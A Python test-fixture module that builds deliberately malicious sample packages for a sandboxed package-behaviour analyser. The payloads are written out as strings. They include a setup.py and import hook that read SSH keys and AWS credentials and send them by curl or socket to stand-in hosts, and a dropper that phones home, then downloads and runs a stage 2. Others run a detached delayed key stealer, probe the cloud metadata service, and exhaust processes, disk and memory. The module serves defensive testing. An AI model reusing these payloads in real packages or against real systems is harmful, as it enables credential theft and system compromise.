"""Sample releases that misbehave on purpose, for the behaviour system tests.

Each builder writes a release with `tests.fakes.dists` (pure data writing: nothing
here runs on the host) and returns its files, to be served by ``FakePyPI``. The
code inside only ever runs in a guest. Every sample is small and fast under TCG,
and each one's findings are told apart by rule id, phase and target, so one
malicious sample can carry several behaviours at once:

| builder | does | where |
|---|---|---|
| `clean` | nothing unusual | - |
| `stealer` | ``setup.py``: TCP connect to 203.0.113.7:443, drops a code ``.pth`` | install |
| | import: reads ``~/.ssh/id_rsa``, runs ``sh -c "curl ... <bait token>"`` | import |
| `segfault` | a test dereferences NULL through ctypes | tests |
| `fork_bomb` | a test spawns ``sleep`` until refused 60 times (RLIMIT_NPROC) | tests |
| `disk_fill` | a test allocates (``fallocate``), writes until ENOSPC, then tidies | tests |
| `memory_hog` | a test allocates and touches memory until the guest's OOM killer strikes | tests |
| `flood` | import prints 1 GiB to stdout (not under pytest) | import |
| `dropper` | import: resolves a name, POSTs to it, sends to 198.51.100.7:4444, then | import |
| | downloads a "stage 2", writes it to /tmp, chmods and runs it (the sinkhole answers) | |
| | its test: a lookup that must fail (the tests phase is offline) | tests |
| `dynsetup` | no static metadata; ``setup.py``: undeclared ``import fakehelper``, | install |
| | then reads ``~/.ssh/id_rsa``, connects to 203.0.113.7:443 | (metadata) |
| `netprobe` | import: IPv6 to a global (documentation) address, to ``::1`` and to a | import |
| | v4-mapped address; raw IP and packet sockets; HTTP to 169.254.169.254; | |
| | AF_VSOCK to the host (CID 2); prints what each got as one JSON line | |

The resource samples act in one phase only (the others stay clean) so the
phase a finding or crash lands in is known.
"""

from __future__ import annotations

from pathlib import Path

from tests.fakes.dists import build_sdist, build_wheel, dedent, make_project

#: TEST-NET-3: never routable, so nothing leaves even a networked machine by mistake.
EXFIL_HOST = "203.0.113.7"
EXFIL_PORT = 443
#: Where the `dropper` phones home: a name (answered by the guest's sinkhole) and an address.
DROPPER_HOST = "exfil.example.com"
DROPPER_IP = "198.51.100.7"
DROPPER_PORT = 4444
#: The .pth `stealer`'s setup.py drops into the venv's site-packages.
STEALER_PTH = "zz_stealer_hook.pth"

_STEALER_SETUP = dedent(
    f"""
    # The sdist's build backend (pyproject: backend-path ["."], build-backend "setup"):
    # what setup.py is under setuptools, minus the need for setuptools in the guest.
    import base64
    import hashlib
    import os
    import socket
    import sysconfig
    import zipfile

    # "phone home" at build time: the guest has no network, the attempt is the evidence
    try:
        socket.create_connection(({EXFIL_HOST!r}, {EXFIL_PORT}), timeout=2).close()
    except OSError:
        pass
    # persistence: a .pth with an import line runs at every interpreter start
    try:
        hook = os.path.join(sysconfig.get_paths()["purelib"], {STEALER_PTH!r})
        with open(hook, "w") as f:
            f.write("import os; p = os.path.expanduser('~/.aws/credentials'); "
                    "os.path.exists(p) and open(p).read()\\n")
    except OSError:
        pass


    def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
        info = "stealer-1.0.dist-info"
        files = {{
            "stealer/__init__.py": open("stealer/__init__.py", "rb").read(),
            info + "/METADATA": b"Metadata-Version: 2.1\\nName: stealer\\nVersion: 1.0\\n",
            info + "/WHEEL": b"Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
        }}
        record = []
        for path, data in files.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
            record.append(f"{{path}},sha256={{digest.decode()}},{{len(data)}}")
        record.append(info + "/RECORD,,")
        files[info + "/RECORD"] = ("\\n".join(record) + "\\n").encode()
        name = "stealer-1.0-py3-none-any.whl"
        with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as whl:
            for path, data in files.items():
                whl.writestr(path, data)
        return name
    """
)

_STEALER_INIT = dedent(
    f"""
    import os
    import subprocess

    __version__ = "1.0"

    try:
        with open(os.path.expanduser("~/.ssh/id_rsa")) as key:
            _key = key.read()
    except OSError:
        _key = ""
    _token = os.environ.get("PYTI_BAIT_TOKEN", "")
    subprocess.run(
        ["sh", "-c", "curl -s -m 2 -d @- https://{EXFIL_HOST}/c?t=" + _token],
        input=_key, text=True, capture_output=True, check=False,
    )
    """
)

SEGFAULT_TEST = dedent(
    """
    import ctypes


    def test_dereferences_null():
        ctypes.string_at(0)
    """
)

FORK_BOMB_TEST = dedent(
    """
    import os


    def test_spawns_until_refused():
        # posix_spawn, not fork: forking a 40 MB pytest 500 times takes minutes under TCG;
        # the process table fills the same way.
        children, refused = 0, 0
        while refused < 60:
            try:
                os.posix_spawn("/bin/sleep", ["sleep", "600"], {})
            except OSError:  # EAGAIN: RLIMIT_NPROC reached
                refused += 1
                continue
            children += 1
        assert children > 0
    """
)

DISK_FILL_TEST = dedent(
    """
    import errno
    import os
    import time


    def test_fills_the_disk(tmp_path):
        n, hit = 0, False
        while not hit and n < 10_000:
            n += 1
            fd = os.open(tmp_path / f"fill{n}", os.O_WRONLY | os.O_CREAT, 0o600)
            try:
                os.posix_fallocate(fd, 0, 256 << 20)
            except OSError as exc:
                hit = exc.errno == errno.ENOSPC
            finally:
                os.close(fd)
        with open(tmp_path / "tail", "wb") as f:  # what fallocate left over
            try:
                while True:
                    f.write(b"x" * (1 << 20))
                    f.flush()
            except OSError as exc:
                assert exc.errno == errno.ENOSPC
        time.sleep(1)  # full for a moment, then tidy: pytest must write its report
        for path in tmp_path.iterdir():
            path.unlink()
        assert hit
    """
)

MEMORY_HOG_TEST = dedent(
    """
    def test_eats_memory():
        hoard = []
        for _ in range(1024):  # 32 GiB: far past any guest's RAM
            hoard.append(b"\\x01" * (32 << 20))
    """
)

FLOOD_INIT = dedent(
    """
    import os
    import sys

    __version__ = "1.0"

    if "pytest" not in sys.modules:
        _line = b"A" * 1023 + b"\\n"
        _block = _line * 1024
        for _ in range(1024):  # 1 GiB
            os.write(1, _block)
    """
)

DROPPER_INIT = dedent(
    f"""
    import os
    import socket
    import subprocess
    import sys
    import urllib.request

    __version__ = "1.0"

    if "pytest" not in sys.modules:
        # each stage as real droppers write it; the guest's sinkhole answers every one
        socket.getaddrinfo({DROPPER_HOST!r}, 443)
        loot = ("user=" + os.environ.get("USER", "") + "&host=" + socket.gethostname()).encode()
        post = urllib.request.Request("http://{DROPPER_HOST}/upload", data=loot, method="POST")
        urllib.request.urlopen(post, timeout=10).read()
        with socket.create_connection(({DROPPER_IP!r}, {DROPPER_PORT}), timeout=10) as shell:
            shell.sendall(b"READY " + socket.gethostname().encode())
        stage2 = urllib.request.urlopen("http://{DROPPER_HOST}/stage2", timeout=10).read()
        with open("/tmp/.stage2", "wb") as f:
            f.write(stage2)
        os.chmod("/tmp/.stage2", 0o755)
        subprocess.run(["/tmp/.stage2"], timeout=10, check=False)
    """
)
#: The tests phase is offline: a lookup there fails as it would without a network.
DROPPER_TEST = dedent(
    """
    import socket

    import pytest


    def test_lookups_fail_offline():
        with pytest.raises(socket.gaierror):
            socket.getaddrinfo("pypi.org", 443)
    """
)
#: A payload that acts after the import has returned: a double fork, a new session, a
#: sleep, then the bait key to the network (the sinkhole answers the name).
DELAYED_HOST = "late.example.com"
DELAYED_SLEEP_S = 4
_DELAYED_PAYLOAD = (
    f"import os, socket, time; time.sleep({DELAYED_SLEEP_S}); "
    "key = open(os.path.expanduser('~/.ssh/id_rsa')).read(); "
    f"s = socket.create_connection(({DELAYED_HOST!r}, 443), timeout=10); "
    "s.sendall(key[:64].encode()); s.close()"
)
DELAYED_INIT = dedent(
    f"""
    import os
    import subprocess
    import sys

    __version__ = "1.0"

    if "pytest" not in sys.modules and os.fork() == 0:
        quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, start_new_session=True)
        subprocess.Popen([sys.executable, "-c", {_DELAYED_PAYLOAD!r}], **quiet)
        subprocess.Popen(["sleep", "600"], **quiet)  # outlives the grace period too
        os._exit(0)
    """
)
STEALER_TEST = "import stealer\n\n\ndef test_version():\n    assert stealer.__version__\n"
UNIMPORTING_TEST = "def test_nothing():\n    assert True\n"
STEALER_PYPROJECT = dedent(
    """
    [build-system]
    requires = []
    build-backend = "setup"
    backend-path = ["."]

    [project]
    name = "stealer"
    version = "1.0"
    dependencies = []
    """
)


#: Where `netprobe` reaches over IPv6 (documentation prefix: routed nowhere, even by mistake).
PROBE_V6 = "2001:db8::7"
#: The cloud metadata service's link-local address.
METADATA_IP = "169.254.169.254"
NETPROBE_INIT = dedent(
    f"""
    import json
    import socket
    import sys

    __version__ = "1.0"


    def _try(family, kind, proto=0, peer=None, send=None):
        try:
            with socket.socket(family, kind, proto) as s:
                s.settimeout(5)
                if peer is not None:
                    s.connect(peer)
                if send is not None:
                    s.sendall(send)
                    return s.recv(64).decode(errors="replace")
                return "ok"
        except OSError as exc:
            import errno
            return errno.errorcode.get(exc.errno, str(exc))


    if "pytest" not in sys.modules:
        probes = {{
            "v6_global": _try(socket.AF_INET6, socket.SOCK_STREAM, peer=({PROBE_V6!r}, 443)),
            "v6_loopback": _try(socket.AF_INET6, socket.SOCK_STREAM, peer=("::1", 1)),
            "v6_mapped": _try(socket.AF_INET6, socket.SOCK_STREAM,
                              peer=("::ffff:203.0.113.7", 443)),
            "raw_icmp": _try(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
            "raw_icmp6": _try(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
            "packet": _try(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
            "metadata": _try(socket.AF_INET, socket.SOCK_STREAM, peer=({METADATA_IP!r}, 80),
                             send=b"GET /latest/meta-data/ HTTP/1.0\\r\\n"
                                  b"Host: {METADATA_IP}\\r\\n\\r\\n"),
            "vsock": _try(socket.AF_VSOCK, socket.SOCK_STREAM, peer=(2, 1234)),
        }}
        print("NETPROBE " + json.dumps(probes), flush=True)
    """
)


def _literal(body: str) -> str:
    """``body`` protected from ``make_project``'s ``str.format``."""
    return body.replace("{", "{{").replace("}", "}}")


def clean(dest: Path, name: str = "cleanpkg", version: str = "1.0") -> list[Path]:
    """A release that does nothing unusual (sdist + wheel with a passing test)."""
    return make_project(dest, name, version).files


def stealer(dest: Path) -> list[Path]:
    """An sdist only, so its build code (``setup.py``) runs at install time in the guest."""
    files = {
        "setup.py": _STEALER_SETUP,
        "stealer/__init__.py": _STEALER_INIT,
        "tests/test_x.py": STEALER_TEST,
        "pyproject.toml": STEALER_PYPROJECT,
    }
    return [build_sdist(dest, "stealer", "1.0", files, metadata_version="2.2")]


def segfault(dest: Path) -> list[Path]:
    """A release whose only test segfaults (SIGSEGV in pytest)."""
    return make_project(dest, "segfaulter", "1.0", test_body=_literal(SEGFAULT_TEST)).files


def fork_bomb(dest: Path) -> list[Path]:
    """A release whose test fills the process table until the process limit refuses."""
    return make_project(dest, "forkbomb", "1.0", test_body=_literal(FORK_BOMB_TEST)).files


def disk_fill(dest: Path) -> list[Path]:
    """A release whose test fills the guest's disk."""
    return make_project(dest, "diskfill", "1.0", test_body=_literal(DISK_FILL_TEST)).files


def memory_hog(dest: Path) -> list[Path]:
    """A release whose test allocates memory until it is killed."""
    return make_project(dest, "memhog", "1.0", test_body=_literal(MEMORY_HOG_TEST)).files


def dropper(dest: Path) -> list[Path]:
    """A release whose import phones home and runs a downloaded stage 2 (sdist + wheel)."""
    return make_project(
        dest, "dropper", "1.0", package_body=_literal(DROPPER_INIT),
        test_body=_literal(DROPPER_TEST),
    ).files  # fmt: skip


def flood(dest: Path) -> list[Path]:
    """A release whose import prints 1 GiB (its test does not import it)."""
    return make_project(
        dest, "flood", "1.0", package_body=_literal(FLOOD_INIT),
        test_body=UNIMPORTING_TEST,
    ).files  # fmt: skip


_DYNSETUP_SETUP = dedent(
    f"""
    # The sdist's build backend (pyproject: backend-path ["."], build-backend "setup"),
    # with metadata only a build can tell (no static Requires-Dist anywhere).
    import base64
    import hashlib
    import os
    import socket
    import zipfile

    import fakehelper  # undeclared: the isolated build environment has no such module

    try:
        with open(os.path.expanduser("~/.ssh/id_rsa")) as key:
            key.read()
    except OSError:
        pass
    try:
        socket.create_connection(({EXFIL_HOST!r}, {EXFIL_PORT}), timeout=2).close()
    except OSError:
        pass

    INFO = "dynsetup-1.0.dist-info"
    METADATA = "Metadata-Version: 2.1\\nName: dynsetup\\nVersion: 1.0\\nRequires-Dist: fakedep\\n"


    def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
        os.makedirs(os.path.join(metadata_directory, INFO), exist_ok=True)
        with open(os.path.join(metadata_directory, INFO, "METADATA"), "w") as f:
            f.write(METADATA)
        return INFO


    def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
        files = {{
            "dynsetup/__init__.py": open("dynsetup/__init__.py", "rb").read(),
            INFO + "/METADATA": METADATA.encode(),
            INFO + "/WHEEL": b"Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
        }}
        record = []
        for path, data in files.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
            record.append(f"{{path}},sha256={{digest.decode()}},{{len(data)}}")
        record.append(INFO + "/RECORD,,")
        files[INFO + "/RECORD"] = ("\\n".join(record) + "\\n").encode()
        name = "dynsetup-1.0-py3-none-any.whl"
        with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as whl:
            for path, data in files.items():
                whl.writestr(path, data)
        return name
    """
)
_DYNSETUP_PYPROJECT = dedent(
    """
    [build-system]
    requires = []
    build-backend = "setup"
    backend-path = ["."]
    """
)


def dynamic_setup(dest: Path) -> list[Path]:
    """An sdist without static metadata whose setup.py imports what it never declared.

    Served with it: ``fakehelper`` (that import) and ``fakedep`` (the dependency only
    the built metadata names), as wheels; ``import dynsetup`` needs ``fakedep``.
    """
    files = {
        "setup.py": _DYNSETUP_SETUP,
        "pyproject.toml": _DYNSETUP_PYPROJECT,
        "dynsetup/__init__.py": 'import fakedep\n\n__version__ = "1.0"\n',
        "tests/test_x.py": "def test_nothing():\n    assert True\n",
    }
    return [
        build_sdist(dest, "dynsetup", "1.0", files, metadata_version="2.1"),
        build_wheel(dest, "fakehelper", "1.0", {"fakehelper/__init__.py": ""}),
        build_wheel(dest, "fakedep", "1.0", {"fakedep/__init__.py": ""}),
    ]


def netprobe(dest: Path) -> list[Path]:
    """A release whose import probes every way out of the guest but TCP/DNS (sdist + wheel)."""
    return make_project(
        dest, "netprobe", "1.0", package_body=_literal(NETPROBE_INIT),
        test_body=UNIMPORTING_TEST,
    ).files  # fmt: skip


def delayed(dest: Path) -> list[Path]:
    """A release whose import leaves a detached payload stealing seconds later (sdist + wheel)."""
    return make_project(
        dest, "delayed", "1.0", package_body=_literal(DELAYED_INIT),
        test_body=UNIMPORTING_TEST,
    ).files  # fmt: skip
